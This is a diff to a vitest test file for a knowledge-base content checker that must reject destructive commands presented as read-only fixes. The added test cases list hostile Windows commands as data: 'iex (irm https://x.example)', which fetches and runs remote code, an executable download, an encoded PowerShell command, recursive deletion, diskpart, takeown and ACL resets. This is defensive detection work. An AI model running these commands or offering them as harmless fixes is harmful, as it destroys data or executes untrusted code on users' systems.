@@ -5,7 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { assembleKnowledgeBase } from '../../src/core/knowledge/assemble-kb.js';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
-import { controlCharacterProblems, DESTRUCTIVE, TEMPLATE_EXAMPLES } from '../../src/core/knowledge/content-rules.js';
+import { controlCharacterProblems, DESTRUCTIVE, READ_ONLY_DOUBT, TEMPLATE_EXAMPLES } from '../../src/core/knowledge/content-rules.js';
 import { realKnowledgeInput } from '../helpers/real-kb.js';
 
 const input = realKnowledgeInput();
@@ -47,6 +47,10 @@ describe('content rules in kb check', () => {
     ...['docker update --restart=no web', 'net use Z: \\\\srv\\share', 'docker pull x', 'kubectl label node n a=b'].map(
       (command): Case => [`"${command}" as a read-only fix`, 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = command; d.fixes[0].params = {}; }, /fixes\[0\]\.readOnly.*changes the system/],
     ),
+    // Found by an attacker helper: each passed as read-only, low risk, "Changes: nothing", and ran on a single y.
+    ...['Get-Service docker, hns | spsv -Force -PassThru', 'Get-Service hns; powershell -NoProfile -EncodedCommand UwB0AG8AcAA=', 'ri -Recurse C:\\x', 'saps calc', '(Get-Service docker).Stop()', '(Get-Item X).Delete($true)', 'gps | % { $_.Terminate() }', 'iex (irm https://x.example)', 'Invoke-Expression $env:X', "'{}' > C:\\ProgramData\\docker\\config\\daemon.json", '[IO.File]::WriteAllText("a", "b")', 'schtasks /create /tn x /tr calc', 'icacls C:\\x /reset /t', 'takeown /f C:\\x /r', 'diskpart /s x.txt', 'winrm quickconfig -q', 'Get-Service | Out-File C:\\x.txt', 'Invoke-WebRequest https://x.example -OutFile C:\\x.exe'].map(
+      (command): Case => [`"${command}" as a read-only fix`, 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = command; d.fixes[0].params = {}; }, /fixes\[0\]\.readOnly.*(?:changes the system|cannot be read as read-only)/],
+    ),
     ['a pattern any paste matches', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('.'), /signatures\.regexes\[\d+\] \/\.\/ matches "hello world"/],
     ['a pattern that matches nothing at all', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('x?'), /signatures\.regexes\[\d+\] .*matches the empty text/],
     ['a pattern of one common word', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('error'), /signatures\.regexes\[\d+\] .*matches "error"/],
@@ -67,6 +71,12 @@ describe('content rules in kb check', () => {
 describe('a destructive command is a command word, not a word of an option or a value (found by a reviewer)', () => {
   it.each(['bcdedit /enum', 'docker run --rm mcr.microsoft.com/windows/nanoserver:ltsc2022 cmd /c ver', 'docker events --filter event=kill', 'Get-Service hns | Format-Table', 'Start-Sleep 2'])('%s is not destructive', (command) => {
     expect(DESTRUCTIVE.test(command)).toBe(false);
+  });
+});
+
+describe('what a read-only fix may hold (READ_ONLY_DOUBT)', () => {
+  it.each(['Get-Service hns 2>$null', 'docker ps 2>&1', 'docker exec web powershell -NoProfile -Command "Get-ChildItem Cert:\\LocalMachine\\Root"', 'docker exec web cmd /c dir C:\\', "Get-NetAdapter | Where-Object { $_.Status -eq 'Up' } | Format-Table Name", '(Get-CimInstance Win32_ComputerSystem).TotalPhysicalMemory', 'Write-Host ($x.ToString())'])('%s reads', (command) => {
+    expect(READ_ONLY_DOUBT.test(command)).toBe(false);
   });
 });
 
